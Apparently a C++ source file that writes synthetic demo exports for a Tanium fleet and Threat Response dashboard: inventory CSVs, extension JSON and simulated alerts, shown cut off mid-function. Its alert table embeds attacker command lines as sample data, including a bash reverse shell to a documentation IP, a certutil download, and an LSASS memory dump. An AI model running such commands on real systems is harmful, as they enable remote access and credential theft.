#include "demo/DemoWriter.h"

#include "demo/DemoFleetModel.h"
#include "demo/DemoRandom.h"
#include "demo/DemoTables.h"
#include "demo/DemoText.h"

#include <QDir>

#include <algorithm>
#include <array>
#include <cstdint>
#include <string>
#include <string_view>

namespace trh::demo {

namespace {

// ================================================================================ alerts

struct IntelDef
{
    int id;
    string_view name;
    string_view type;
    Platform platform;
    string_view severity;
    string_view matchType; // "process" or "file"
    string_view path;      // %u = user name
    string_view process;
    string_view args;
    int weight;
};

// Command lines carry quotes, backslashes and commas on purpose: the JSON must escape them.
constexpr std::array<IntelDef, 12> kIntel = {{
    {1042, "Suspicious Rundll32 Activity"sv, "tanium-signal"sv, Platform::Windows, "high"sv,
     "process"sv, "C:\\Windows\\System32\\rundll32.exe"sv, "rundll32.exe"sv,
     "rundll32.exe \"C:\\Users\\%u\\AppData\\Local\\Temp\\upd.dll\",DllRegisterServer"sv, 20},
    {1057, "PowerShell Encoded Command"sv, "tanium-signal"sv, Platform::Windows, "medium"sv,
     "process"sv, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"sv,
     "powershell.exe"sv,
     "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A"sv,
     30},
    {1088, "LSASS Memory Access by Unsigned Process"sv, "tanium-signal"sv, Platform::Windows,
     "critical"sv, "process"sv, "C:\\Users\\%u\\Downloads\\pd64.exe"sv, "pd64.exe"sv,
     "pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp"sv, 4},
    {2011, "Certutil Used to Download File"sv, "tanium-signal"sv, Platform::Windows, "medium"sv,
     "process"sv, "C:\\Windows\\System32\\certutil.exe"sv, "certutil.exe"sv,
     "certutil.exe -urlcache -split -f http://198.51.100.23/a.txt a.exe"sv, 15},
    {3005,
     "EICAR Test File"sv,
     "yara"sv,
     Platform::Windows,
     "low"sv,
     "file"sv,
     "C:\\Users\\%u\\Downloads\\eicar.com.txt"sv,
     {},
     {},
     12},
    {1120, "Reverse Shell via Bash"sv, "tanium-signal"sv, Platform::Linux, "high"sv, "process"sv,
     "/usr/bin/bash"sv, "bash"sv, "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"sv, 10},
    {1133,
     "Crontab Modified by Non-Root User"sv,
     "tanium-signal"sv,
     Platform::Linux,
     "medium"sv,
     "file"sv,
     "/var/spool/cron/crontabs/%u"sv,
     {},
     {},
     20},
    {2045,
     "Known Cryptominer Binary"sv,
     "reputation"sv,
     Platform::Linux,
     "high"sv,
     "file"sv,
     "/tmp/.X11-unix/.xmr/xmrig"sv,
     {},
     {},
     8},
    {3005,
     "EICAR Test File"sv,
     "yara"sv,
     Platform::Linux,
     "low"sv,
     "file"sv,
     "/home/%u/eicar.com"sv,
     {},
     {},
     6},
    {1201,
     "Launch Agent Persistence"sv,
     "tanium-signal"sv,
     Platform::Mac,
     "medium"sv,
     "file"sv,
     "/Users/%u/Library/LaunchAgents/com.apple.updater.plist"sv,
     {},
     {},
     10},
    {1215, "Quarantine Attribute Removed"sv, "tanium-signal"sv, Platform::Mac, "low"sv, "process"sv,
     "/usr/bin/xattr"sv, "xattr"sv,
     "xattr -d com.apple.quarantine \"/Users/%u/Downloads/Free Fonts.app\""sv, 10},
    {3005,
     "EICAR Test File"sv,
     "yara"sv,
     Platform::Mac,
     "low"sv,
     "file"sv,
     "/Users/%u/Downloads/eicar.com"sv,
     {},
     {},
     4},
}};

constexpr std::array<string_view, 8> kUsers = {"jdoe"sv,   "asmith"sv, "mgarcia"sv, "lchen"sv,
                                               "pkumar"sv, "onowak"sv, "rsilva"sv,  "tmueller"sv};

void appendWithUser(std::string &out, string_view text, string_view user)
{
    for (std::size_t k = 0; k < text.size(); ++k) {
        if (text[k] == '%' && k + 1 < text.size() && text[k + 1] == 'u') {
            out.append(user);
            ++k;
        } else {
            out.push_back(text[k]);
        }
    }
}

enum class Fate
{
    NeverHandled,
    Ignored,
    DirectResolve,
    Workflow
};

// ======================================================================== snapshot writer

const QString kInventoryFile = QStringLiteral(
    "Get Computer Name and Computer ID and OS Platform and Operating System and Computer Groups "
    "from all machines.csv");
const QString kCxStatusFile =
    QStringLiteral("Get Computer Name and Client Extensions - Status from all machines.csv");
const QString kSettingsFile =
    QStringLiteral("Get Computer Name and Client Health - Client Settings from all machines.csv");
const QString kToolsFile = QStringLiteral(
    "Get Computer Name and Endpoint Configuration - Tools Status from all machines.csv");
const QString kExtensionsFile = QStringLiteral(
    "Get Computer Name and Client Extensions - Installed Extensions from all machines.json");
const QString kDriverFile =
    QStringLiteral("Get Computer Name and Tanium Driver Status and Tanium Driver Version from "
                   "all machines with Is Windows matches true.csv");
const QString kGatewayFile = QStringLiteral("gateway-bpf-linux.json");
const QString kTrStatusFile =
    QStringLiteral("Get Computer Name and Threat Response - Status from all machines.csv");
const QString kAlertsFile = QStringLiteral("threat-response-alerts.json");
const QString kProfilesFile = QStringLiteral("threat-response-profiles.json");

constexpr int kGatewayPageSize = 500;
constexpr string_view kTseError = "TSE-Error: sensor execution timed out"sv;

// Writes the ten files of one snapshot. The per-endpoint files are written together in one
// pass over the fleet; alerts and profiles afterwards.
class SnapshotWriter
{
public:
    SnapshotWriter(const Fleet &fleet, int month, const QString &dir)
        : m_fleet(fleet), m_month(month), m_dir(dir)
    {}

    bool run(QStringList *files, QString *error);

private:
    enum FileId
    {
        Inventory,
        CxStatus,
        Settings,
        Tools,
        Extensions,
        Driver,
        Gateway,
        TrStatus,
        Alerts,
        Profiles,
        kFileCount
    };

    bool open(FileId id, const QString &name, OutFile::Encoding encoding);
    void beginFiles();
    void writeEndpoint(const Traits &t, const State &s);
    void endFiles();
    void writeInventory(const Traits &t);
    void writeCxStatus(const Traits &t, const State &s);
    void writeSettings(const Traits &t, const State &s);
    void writeTools(const State &s);
    void writeExtensions(const Traits &t, const State &s);
    void writeDriver(const State &s);
    void writeGateway(const Traits &t, const State &s);
    void writeTrStatus(const State &s);
    void writeAlerts();
    void writeAlert(int k, qint64 created, qint64 now);
    void writeProfiles();

    const Fleet &m_fleet;
    const int m_month;
    const QString m_dir;
    std::array<OutFile, kFileCount> m_out;
    std::array<QString, kFileCount> m_path;
    QString m_error;

    // Scratch, reused for every endpoint.
    std::string m_name;
    std::string m_cid;
    std::string m_cell;
    std::string m_num;
    Lines<3> m_dkv;
    Lines<4> m_tools;
    Lines<2> m_driverLines{"\r\n"sv}; // CRLF inside a cell: allowed, and exercised here
    Lines<3> m_trStatus;
    int m_extRows = 0;
    int m_gatewayNodes = 0;
};

bool SnapshotWriter::open(FileId id, const QString &name, OutFile::Encoding encoding)
{
    m_path[id] = QDir(m_dir).absoluteFilePath(name);
    if (m_out[id].open(m_path[id], encoding))
        return true;
    if (m_error.isEmpty())
        m_error = QStringLiteral("cannot write %1: %2").arg(m_path[id], m_out[id].error());
    return false;
}

bool SnapshotWriter::run(QStringList *files, QString *error)
{
    using E = OutFile::Encoding;
    // Encodings and line ends vary across files the way real exports do, so the demo also
    // exercises the reader's sniffing: see the per-file comments in beginFiles().
    const bool opened =
        open(Inventory, kInventoryFile, E::Utf8Bom) && open(CxStatus, kCxStatusFile, E::Utf8) &&
        open(Settings, kSettingsFile, E::Utf16LeBom) && open(Tools, kToolsFile, E::Utf8) &&
        open(Extensions, kExtensionsFile, E::Utf8) && open(Driver, kDriverFile, E::Utf8Bom) &&
        open(Gateway, kGatewayFile, E::Utf8) && open(TrStatus, kTrStatusFile, E::Utf8) &&
        open(Alerts, kAlertsFile, E::Utf8) && open(Profiles, kProfilesFile, E::Utf8);
    if (opened) {
        beginFiles();
        for (int i = 0; i < m_fleet.universe(); ++i) {
            if (!m_fleet.present(i, m_month))
                continue;
            const Traits t = m_fleet.traits(i);
            writeEndpoint(t, m_fleet.state(t, m_month));
        }
        endFiles();
        writeAlerts();
        writeProfiles();
    }
    for (std::size_t f = 0; f < kFileCount; ++f) {
        if (!m_out[f].finish() && m_error.isEmpty() && !m_path[f].isEmpty())
            m_error = QStringLiteral("cannot write %1: %2").arg(m_path[f], m_out[f].error());
    }
    if (!m_error.isEmpty()) {
        // Leave no half-written snapshot behind that could be imported by mistake.
        for (const QString &p : m_path) {
            if (!p.isEmpty())
                QFile::remove(p);
        }
        if (error)
            *error = m_error;
        return false;
    }
    for (const QString &p : m_path)
        files->append(p);
    return true;
}

void SnapshotWriter::beginFiles()
{
    // 1. Inventory: UTF-8 with BOM, CRLF, multi-line Computer Groups.
    m_out[Inventory].buf().append(
        "Computer Name,Computer ID,OS Platform,Operating System,Computer Groups,Count\r\n"sv);
    // 2. Client Extensions - Status: UTF-8 without BOM, LF.
    m_out[CxStatus].buf().append("Computer Name,Domain,Key,Value,Count\n"sv);
    // 3. Client Settings: UTF-16LE with BOM, ';', CRLF; the header says Key, not Setting.
    m_out[Settings].buf().append("Computer Name;Domain;Key;Value;Count\r\n"sv);
    // 4. Tools Status: UTF-8 without BOM, CRLF.
    m_out[Tools].buf().append(
        "Computer Name,Tool Name,Status,Targeted Version,Installed Version,Count\r\n"sv);
    // 5. Installed Extensions: REST API v2 result_data; counts are known before the rows.
    {
        std::string &b = m_out[Extensions].buf();
        const qint64 now = snapshotMs(m_month);
        int y = 0, mo = 0, d = 0;
        civilFromDays(now / kDayMs, y, mo, d);
        const int n = m_fleet.count(m_month);
        const int questionId = 48213 + 1117 * m_month;
        b.append(R"({"data":{"now":")"sv);
        appendPadded(b, std::uint32_t(y), 4);
        b.push_back('/');
        append2(b, mo);
        b.push_back('/');
        append2(b, d);
        b.append(" 09:00:00 GMT-0000\",\"max_available_age\":\"\",\"result_sets\":[{\"age\":0,"
                 "\"id\":"sv);
        appendInt(b, questionId);
        b.append(R"(,"report_count":1,"saved_question_id":0,"question_id":)"sv);
        appendInt(b, questionId);
        b.append(R"(,"archived_question_id":0,"seconds_since_issued":47,"issue_seconds":0,)"
                 R"("expire_seconds":600,"tested":)"sv);
        for (const string_view key : {"passed"sv, "mr_tested"sv, "mr_passed"sv, "estimated_total"sv,
                                      "row_count"sv, "row_count_machines"sv, "item_count"sv}) {
            appendInt(b, n);
            b.append(",\""sv).append(key).append("\":"sv);
        }
        appendInt(b, n);
        b.append(R"(,"select_count":1,"columns":[)"
                 R"({"name":"Computer Name","hash":3409330187,"type":1},)"
                 R"({"name":"Domain","hash":1092986182,"type":1},)"
                 R"({"name":"Version","hash":2744701361,"type":1},)"
                 R"({"name":"Count","hash":0,"type":3}],"rows":[)"sv);
    }
    // 6. Driver status and version (Windows only): UTF-8 with BOM, CRLF, CRLF inside cells.
    m_out[Driver].buf().append(
        "Computer Name,Tanium Driver Status,Tanium Driver Version,Count\r\n"sv);
    // 7. API Gateway endpoints pages (Linux only): a JSON array of pages.
    m_out[Gateway].buf().push_back('[');
    // 8. Threat Response - Status: UTF-8 without BOM, LF.
    m_out[TrStatus].buf().append("Computer Name,Component,Key,Value,Count\n"sv);
}

void SnapshotWriter::writeEndpoint(const Traits &t, const State &s)
{
    m_name.clear();
    m_fleet.appendName(m_name, t);
    m_cid.clear();
    appendInt(m_cid, t.computerId);

    writeInventory(t);
    writeCxStatus(t, s);
    writeSettings(t, s);
    writeTools(s);
    writeExtensions(t, s);
    if (t.platform == Platform::Windows)
        writeDriver(s);
    if (t.platform == Platform::Linux)
        writeGateway(t, s);
    if (s.deployed)
        writeTrStatus(s);
    for (std::size_t f = 0; f < Alerts; ++f)
        m_out[f].rowDone();
}

void SnapshotWriter::writeInventory(const Traits &t)
{
    std::string &b = m_out[Inventory].buf();
    appendCsvField(b, m_name, ',');
    b.push_back(',');
    b.append(m_cid);
    b.push_back(',');
    b.append(platformName(t.platform));
    b.push_back(',');
    appendCsvField(b, kOs[t.os].name, ',');
    b.push_back(',');
    std::array<string_view, 6> g;
    const int n = Fleet::groups(t, g);
    m_cell.clear();
    for (int k = 0; k < n; ++k) {
        if (k > 0)
            m_cell.push_back('\n');
        m_cell.append(g[std::size_t(k)]);
    }
    appendCsvField(b, m_cell, ',');
    b.append(",1\r\n"sv);
}

void SnapshotWriter::writeCxStatus(const Traits &t, const State &s)
{
    Lines<3> &l = m_dkv;
    l.clear();
    auto health = [&](int domain) {
        const int r = s.failReason[std::size_t(domain)];
        return r < 0 ? "ok"sv : kFailReasons[std::size_t(domain)][std::size_t(r)];
    };
    if (s.cxPending) {
        l.add({kPending, kPending, kPending});
    } else if (s.cxError) {
        l.add({kTseError, kTseError, kTseError});
    } else {
        if (s.deployed)
            l.add({"dec"sv, "health_check"sv, health(Dec)});
        l.add({"deploy"sv, "health_check"sv, "ok"sv});
        if (s.deployed)
            l.add({"index"sv, "health_check"sv, health(Index)});
        l.add({"patch"sv, "health_check"sv, s.patchFail ? "patch: scan overdue"sv : "ok"sv});
        if (s.recorder) {
            l.add({"recorder"sv, "health_check"sv, health(Recorder)});
            switch (t.platform) {
            case Platform::Windows:
                if (s.usingDriver)
                    l.add({"recorder"sv, "has_event_source"sv, "TaniumDriver"sv});
                l.add({"recorder"sv, "has_event_source"sv, "ETW"sv});
                break;
            case Platform::Linux:
                l.add({"recorder"sv, "has_event_source"sv,
                       kOs[t.os].bpf == Bpf::Unsupported ? "auditd"sv : "eBPF"sv});
                break;
            case Platform::Mac:
                l.add({"recorder"sv, "has_event_source"sv, "EndpointSecurity"sv});
                break;
            }
            l.add({"recorder"sv, "has_subscription"sv, "threatresponse,index"sv});
            if (t.platform == Platform::Windows)
                l.add({"recorder"sv, "is_using_tanium_driver"sv,
                       s.usingDriver ? "True"sv : "False"sv});
            l.add({"recorder"sv, "min_requirements_met"sv, s.minReqMet ? "True"sv : "False"sv});
        }
        if (s.deployed) {
            l.add({"stream"sv, "health_check"sv, health(Stream)});
            l.add({"threatresponse"sv, "health_check"sv, health(ThreatResponse)});
            m_num.clear();
            appendInt(m_num, s.intel);
            l.add({"threatresponse"sv, "applied_intel_revision"sv, m_num});
            if (s.hasProfile) {
                string_view name;
                int id = 0;
                if (s.staleProfile) {
                    name = kStaleProfiles[std::size_t(s.profile)].name;
                    id = kStaleProfiles[std::size_t(s.profile)].id;
                } else {
                    name = kProfiles[std::size_t(s.profile)].name;
                    id = kProfiles[std::size_t(s.profile)].id;
                }
                l.add({"threatresponse"sv, "applied_profile"sv, name});
                m_num.clear();
                appendInt(m_num, id);
                l.add({"threatresponse"sv, "applied_profile_id"sv, m_num});
                m_num.clear();
                appendInt(m_num, s.profileRevision);
                l.add({"threatresponse"sv, "applied_profile_revision"sv, m_num});
            }
        }
    }
    std::string &b = m_out[CxStatus].buf();
    appendCsvField(b, m_name, ',');
    for (std::size_t c = 0; c < 3; ++c) {
        b.push_back(',');
        appendCsvField(b, l.cell(c), ',');
    }
    b.append(",1\n"sv);
}

void SnapshotWriter::writeSettings(const Traits &t, const State &s)
{
    Lines<3> &l = m_dkv;
    l.clear();
    if (s.settingsPending) {
        l.add({kPending, kPending, kPending});
    } else if (s.settingsCount == 0) {
        l.add({kNoResults, kNoResults, kNoResults});
    } else {
        for (int k = 0; k < s.settingsCount; ++k) {
            const SettingDef &d = kSettings[std::size_t(s.settingsFirst + k) % kSettings.size()];
            l.add(
                {d.domain, d.key, t.platform == Platform::Windows ? d.windowsValue : d.otherValue});
        }
    }
    std::string &b = m_out[Settings].buf();
    appendCsvField(b, m_name, ';');
    for (std::size_t c = 0; c < 3; ++c) {
        b.push_back(';');
        appendCsvField(b, l.cell(c), ';');
    }
    b.append(";1\r\n"sv);
}

void SnapshotWriter::writeTools(const State &s)
{
    Lines<4> &l = m_tools;
    l.clear();
    if (s.toolsPending) {
        l.add({kPending, kPending, kPending, kPending});
    } else {
        for (std::size_t k = 0; k < kToolCount; ++k) {
            const ToolState &ts = s.tools[k];
            string_view status;
            switch (ts.status) {
            case ToolStatus::Absent:
                continue;
            case ToolStatus::Installed:
                status = "Installed"sv;
                break;
            case ToolStatus::NotInstalled:
                status = "Not Installed"sv;
                break;
            case ToolStatus::Installing:
                status = "Installing"sv;
                break;
            }
            l.add({kTools[k].name, status, ts.target, ts.installed});
        }
    }
    std::string &b = m_out[Tools].buf();
    appendCsvField(b, m_name, ',');
    for (std::size_t c = 0; c < 4; ++c) {
        b.push_back(',');
        appendCsvField(b, l.cell(c), ',');
    }
    b.append(",1\r\n"sv);
}

void SnapshotWriter::writeExtensions(const Traits &t, const State &s)
{
    std::string &b = m_out[Extensions].buf();
    if (m_extRows++ > 0)
        b.push_back(',');
    b.append(R"({"id":)"sv);
    appendInt(b, mix32(t.computerId ^ 0xA5A5A5A5u)); // row ids look like hashes, unique
    b.append(R"(,"cid":)"sv);
    b.append(m_cid);
    b.append(R"(,"data":[[{"text":)"sv);
    appendJsonString(b, m_name);
    b.append("}],["sv);
    // Domain and Version cells: one {text} per installed extension, correlated by position.
    auto single = [&](string_view text) {
        b.append(R"({"text":)"sv);
        appendJsonString(b, text);
        b.append("}],["sv);
        b.append(R"({"text":)"sv);
        appendJsonString(b, text);
        b.push_back('}');
    };
    if (s.extPending) {
        single(kPending);
    } else if (!s.deployed) {
        single(kNoResults);
    } else {
        m_cell.clear(); // versions, composed while the domains are written
        int n = 0;
        for (const auto &[domain, tool] : kExtensions) {
            const ToolState &ts = s.tools[tool];
            if (ts.status != ToolStatus::Installed)
                continue;
            if (n > 0) {
                b.push_back(',');
                m_cell.push_back(',');
            }
            b.append(R"({"text":)"sv);
            appendJsonString(b, domain);
            b.push_back('}');
            m_cell.append(R"({"text":)"sv);
            appendJsonString(m_cell, ts.installed);
            m_cell.push_back('}');
            ++n;
        }
        if (n == 0) {
            single(kNoResults);
        } else {
            b.append("],["sv);
            b.append(m_cell);
        }
    }
    b.append(R"(],[{"text":"1"}]]})"sv);
}

void SnapshotWriter::writeDriver(const State &s)
{
    Lines<2> &l = m_driverLines;
    l.clear();
    string_view version = s.tools[ToolDriver].installed;
    if (s.driverPending) {
        l.add({kPending, {}});
        version = kPending;
    } else {
        constexpr string_view path =
            "Driver install path: \\SystemRoot\\System32\\drivers\\TaniumRecorderDrv.sys"sv;
        switch (s.driver) {
        case DriverState::Running:
            l.add({"Service Status: SERVICE_RUNNING"sv, {}});
            l.add({path, {}});
            break;
        case DriverState::Stopped:
            l.add({"Service Status: SERVICE_STOPPED"sv, {}});
            l.add({path, {}});
            break;
        case DriverState::NotStarted:
            l.add({"Service Status: Not started"sv, {}});
            break;
        case DriverState::ServiceNotInstalled:
            l.add({"Service Installation: Not installed"sv, {}});
            break;
        case DriverState::NotInstalled:
            l.add({"Driver Location: Not installed"sv, {}});
            l.add({"Driver Version N/A"sv, {}});
            l.add({"Driver Controller Version N/A"sv, {}});
            version = "N/A"sv;
            break;
        }
    }
    std::string &b = m_out[Driver].buf();
    appendCsvField(b, m_name, ',');
    b.push_back(',');
    appendCsvField(b, l.cell(0), ',');
    b.push_back(',');
    appendCsvField(b, version, ',');
    b.append(",1\r\n"sv);
}

void SnapshotWriter::writeGateway(const Traits &t, const State &s)
{
    std::string &b = m_out[Gateway].buf();
    const int total = m_fleet.linuxCount(m_month);
    const int offset = m_gatewayNodes++;
    if (offset % kGatewayPageSize == 0) {
        if (offset > 0)
            b.push_back(',');
        b.append(R"({"data":{"endpoints":{"edges":[)"sv);
    } else {
        b.push_back(',');
    }
    b.append(R"({"node":{"name":)"sv);
    appendJsonString(b, m_name);
    b.append(R"(,"computerID":")"sv);
    b.append(m_cid);
    b.append(R"(","os":{"platform":"Linux","name":)"sv);
    appendJsonString(b, kOs[t.os].name);
    b.append(R"(},"sensorReadings":{"columns":[)"sv);
    const Bpf bpf = kOs[t.os].bpf;
    m_cell.clear();
    if (!s.bpfPending) {
        m_cell.append("kernel "sv).append(kOs[t.os].kernel);
        switch (bpf) {
        case Bpf::Core:
        case Bpf::None:
            m_cell.append(": BTF available"sv);
            break;
        case Bpf::BccOnly:
            m_cell.append(": BTF not available, kernel headers present"sv);
            break;
        case Bpf::Unsupported:
            m_cell.append(": eBPF not supported"sv);
            break;
        }
    }
    const std::array<std::pair<string_view, string_view>, 3> columns = {{
        {"Recorder - Is BPF BCC Supported"sv, s.bpfPending              ? kPending
                                              : bpf == Bpf::Unsupported ? "False"sv
                                                                        : "True"sv},
        {"Recorder - Is BPF CO-RE Supported"sv, s.bpfPending       ? kPending
                                                : bpf == Bpf::Core ? "True"sv
                                                                   : "False"sv},
        {"Recorder - Is BPF Supported Details"sv, s.bpfPending ? kPending : string_view(m_cell)},
    }};
    for (std::size_t c = 0; c < columns.size(); ++c) {
        if (c > 0)
            b.push_back(',');
        b.append(R"({"name":)"sv);
        appendJsonString(b, columns[c].first);
        b.append(R"(,"sensor":{"name":)"sv);
        appendJsonString(b, columns[c].first);
        b.append(R"(},"values":[)"sv);
        appendJsonString(b, columns[c].second);
        b.append("]}"sv);
    }
    b.append(R"(]}},"cursor":")"sv);
    appendCursor(b, offset);
    b.append("\"}"sv);
    const bool last = offset + 1 == total;
    if (last || (offset + 1) % kGatewayPageSize == 0) {
        b.append(R"(],"pageInfo":{"hasNextPage":)"sv);
        b.append(last ? "false"sv : "true"sv);
        b.append(R"(,"endCursor":")"sv);
        appendCursor(b, offset);
        b.append(R"("},"totalRecords":)"sv);
        appendInt(b, total);
        b.append("}}}"sv);
    }
}

void SnapshotWriter::writeTrStatus(const State &s)
{
    Lines<3> &l = m_trStatus;
    l.clear();
    if (s.cxPending) {
        l.add({kPending, kPending, kPending});
    } else if (s.cxError) {
        l.add({kTseError, kTseError, kTseError});
    } else {
        string_view profile = "None"sv;
        if (s.hasProfile)
            profile = s.staleProfile ? kStaleProfiles[std::size_t(s.profile)].name
                                     : kProfiles[std::size_t(s.profile)].name;
        l.add({"Threat Response"sv, "Active Profile"sv, profile});
        l.add({"Threat Response"sv, "Overall Status"sv,
               !s.hasProfile      ? "Not Configured"sv
               : s.anyTrFailure() ? "Unhealthy"sv
                                  : "Healthy"sv});
    }
    std::string &b = m_out[TrStatus].buf();
    appendCsvField(b, m_name, ',');
    for (std::size_t c = 0; c < 3; ++c) {
        b.push_back(',');
        appendCsvField(b, l.cell(c), ',');
    }
    b.append(",1\n"sv);
}

void SnapshotWriter::endFiles()
{
    m_out[Extensions].buf().append("]}]}}"sv);
    if (m_gatewayNodes == 0) {
        // No Linux endpoint: still one valid (empty) page.
        m_out[Gateway].buf().append(
            R"({"data":{"endpoints":{"edges":[],"pageInfo":{"hasNextPage":false,)"
            R"("endCursor":null},"totalRecords":0}}})"sv);
    }
    m_out[Gateway].buf().push_back(']');
}

void SnapshotWriter::writeAlerts()
{
    const qint64 now = snapshotMs(m_month);
    const qint64 from = now - 120 * kDayMs; // what the API returns for "last 4 months"
    m_out[Alerts].buf().append(R"({"data":[)"sv);
    bool first = true;
    for (int k = 0; k < m_fleet.alertCount(); ++k) {
        const qint64 created = m_fleet.alertCreatedMs(k);
        if (created > now)
            break; // created times grow with k
        if (created < from)
            continue;
        if (!first)
            m_out[Alerts].buf().push_back(',');
        first = false;
        writeAlert(k, created, now);
        m_out[Alerts].rowDone();
    }
    m_out[Alerts].buf().append("]}"sv);
}

void SnapshotWriter::writeAlert(int k, qint64 created, qint64 now)
{
    const Rng &rng = m_fleet.rng();
    const auto uk = std::uint64_t(k);

    // The endpoint: present when the alert fired; a quarter of alerts come from a few noisy
    // machines.
    int month = 0;
    while (month < kSnapshots - 1 && created > snapshotMs(month))
        ++month;
    const bool noisy = chance(rng(Tag::AlertNoisy, uk), 250000);
    const auto pool =
        std::uint32_t(noisy ? std::max(1, m_fleet.endpoints() / 100) : m_fleet.universe());
    int endpoint = -1;
    for (std::uint64_t attempt = 0; attempt < 16 && endpoint < 0; ++attempt) {
        const int i = int(below(rng(Tag::AlertHost, uk, attempt), pool));
        if (m_fleet.present(i, month))
            endpoint = i;
    }
    for (int i = 0; endpoint < 0 && i < m_fleet.universe(); ++i) {
        if (m_fleet.present(i, month))
            endpoint = i;
    }
    const Traits t = m_fleet.traits(endpoint < 0 ? 0 : endpoint);

    // Intel that matched, among those of the endpoint's platform.
    std::array<int, kIntel.size()> weights{};
    for (std::size_t d = 0; d < kIntel.size(); ++d)
        weights[d] = kIntel[d].platform == t.platform ? kIntel[d].weight : 0;
    const IntelDef &intel = kIntel[std::size_t(pickWeighted(rng(Tag::AlertIntel, uk), weights))];
    const string_view user = kUsers[below(rng(Tag::AlertUser, uk), kUsers.size())];

    // Lifecycle. Analysts get faster month by month (MTTI/MTTR trend down).
    Fate fate = Fate::Workflow;
    const std::uint32_t r = below(rng(Tag::AlertFate, uk), 1000);
    if (r < 40)
        fate = Fate::NeverHandled;
    else if (r < 60)
        fate = Fate::Ignored;
    else if (r < 200)
        fate = Fate::DirectResolve; // ~15 % of resolved alerts skip In Progress
    if (m_fleet.forcedNeverHandled(k))
        fate = Fate::NeverHandled;
    else if (m_fleet.forcedDirectResolve(k))
        fate = Fate::DirectResolve;
    int y = 0, mo = 0, d = 0;
    civilFromDays(created / kDayMs, y, mo, d);
    const int monthsSinceMay = (y - 2026) * 12 + mo - 5;
    const qint64 pace = 100 - 13 * std::max(0, monthsSinceMay - 3); // percent of August's
    const std::uint64_t h1 = rng(Tag::AlertDelay, uk);
    const std::uint64_t h2 = rng(Tag::AlertDelay2, uk);
    const std::uint64_t h3 = rng(Tag::AlertDelay3, uk);
    auto minutes = [](qint64 m) { return m * 60000; };
    qint64 ackAt = -1, doneAt = -1;
    switch (fate) {
    case Fate::NeverHandled:
        break;
    case Fate::Ignored:
        doneAt = created + minutes(30 + below(h1, 2880));
        break;
    case Fate::DirectResolve:
        doneAt =
            created + (m_fleet.forcedDirectResolve(k) ? 2 * kDayMs : minutes(60 + below(h1, 7140)));
        break;
    case Fate::Workflow: {
        // The backlog (alerts left for days) shrinks too: 12 % of alerts in August, 6 % by
        // November.
        const std::uint32_t tail = std::uint32_t(std::clamp(12 - 2 * (monthsSinceMay - 3), 6, 12));
        const std::uint32_t a = below(h1, 100);
        const std::uint32_t quick = a * 100 / (100 - tail); // 0-99 unless in the tail
        const qint64 ackMinutes = a >= 100 - tail ? 2880 + below(h2, 5760)
                                  : quick < 45    ? 10 + below(h2, 110)
                                  : quick < 78    ? 120 + below(h2, 360)
                                                  : 480 + below(h2, 2400);
        ackAt = created + (minutes(ackMinutes) + below(h3, 60000)) * pace / 100;
        const std::uint32_t b = below(mix64(h3), 100);
        const std::uint64_t h4 = mix64(h3 + kGamma);
        const qint64 fixMinutes = b < 40   ? 60 + below(h4, 420)
                                  : b < 80 ? 480 + below(h4, 3840)
                                  : b < 95 ? 4320 + below(h4, 10080)
                                           : 28800 + below(h4, 28800);
        doneAt = ackAt + minutes(fixMinutes) * pace / 100 + below(mix64(h4), 1000);
        break;
    }
    }
    string_view state = "unresolved"sv;
    qint64 updated = created;
    bool acked = false;
    if (fate == Fate::Workflow && now >= ackAt) {
        acked = true;
        state = "inprogress"sv;
        updated = ackAt;
    }
    if (doneAt >= 0 && now >= doneAt) {
        state = fate == Fate::Ignored ? "ignored"sv : "resolved"sv;
        updated = doneAt;
    }

    const qint64 alerted = created - 5000 - below(rng(Tag::AlertSkew, uk), 600000);
    const qint64 received = created - below(mix64(rng(Tag::AlertSkew, uk)), 3000);

    std::string &b = m_out[Alerts].buf();
    b.append(R"({"id":)"sv);
    appendInt(b, 4100 + k);
    b.append(R"(,"guid":")"sv);
    const std::uint64_t g1 = rng(Tag::AlertGuid, uk);
    const std::uint64_t g2 = rng(Tag::AlertGuid2, uk);
    appendHex(b, g1 >> 32, 8);
    b.push_back('-');
    appendHex(b, (g1 >> 16) & 0xFFFF, 4);
    b.push_back('-');
    appendHex(b, 0x4000 | (g1 & 0x0FFF), 4); // version 4
    b.push_back('-');
    appendHex(b, 0x8000 | ((g2 >> 48) & 0x3FFF), 4); // RFC 4122 variant
    b.push_back('-');
    appendHex(b, g2 & 0xFFFFFFFFFFFFull, 12);
    b.append(R"(","state":")"sv).append(state);
    b.append(R"(","type":"detect.match","priority":")"sv).append(intel.severity);
    b.append(R"(","severity":")"sv).append(intel.severity);
    b.append(R"(","intelDocId":)"sv);
    appendInt(b, intel.id);
    b.append(R"(,"computerName":)"sv);
    // The alert carries the host name as TR saw it: lower case where the console shows a
    // hand-typed mixed-case name, so matching must ignore case.
    m_name.clear();
    m_fleet.appendName(m_name, t);
    if (t.mixedCase)
        std::transform(m_name.begin(), m_name.end(), m_name.begin(),
                       [](char c) { return c >= 'A' && c <= 'Z' ? char(c - 'A' + 'a') : c; });
    appendJsonString(b, m_name);
    b.append(R"(,"computerIpAddress":"10.)"sv);
    appendInt(b, 10 + 10 * t.site);
    b.push_back('.');
    appendInt(b, (t.index / 250) % 250);
    b.push_back('.');
    appendInt(b, t.index % 250 + 2);
    b.append(R"(","createdAt":")"sv);
    appendIsoMs(b, created);
    b.append(R"(","alertedAt":")"sv);
    appendIsoMs(b, alerted);
    b.append(R"(","updatedAt":")"sv);
    appendIsoMs(b, updated);
    b.append(R"(","ackedAt":)"sv);
    if (acked) {
        b.push_back('"');
        appendIsoMs(b, ackAt);
        b.push_back('"');
    } else {
        b.append("null"sv);
    }
    b.append(R"(,"receivedAt":")"sv);
    appendIsoMs(b, received);
    b.append(R"(","suppressedAt":null,"matchType":")"sv).append(intel.matchType);
    b.append(R"(","path":)"sv);
    m_cell.clear();
    appendWithUser(m_cell, intel.path, user);
    appendJsonString(b, m_cell);

    // details: an object in TR 4.x.
    const std::uint64_t hash1 = rng(Tag::AlertHash, uk);
    const std::uint64_t hash2 = rng(Tag::AlertHash2, uk);
    b.append(R"(,"details":{"match":{"type":")"sv).append(intel.matchType);
    b.append(R"(","source":"recorder","hash":")"sv);
    appendHex(b, hash1, 16);
    appendHex(b, hash2, 16);
    b.append(R"(","properties":{)"sv);
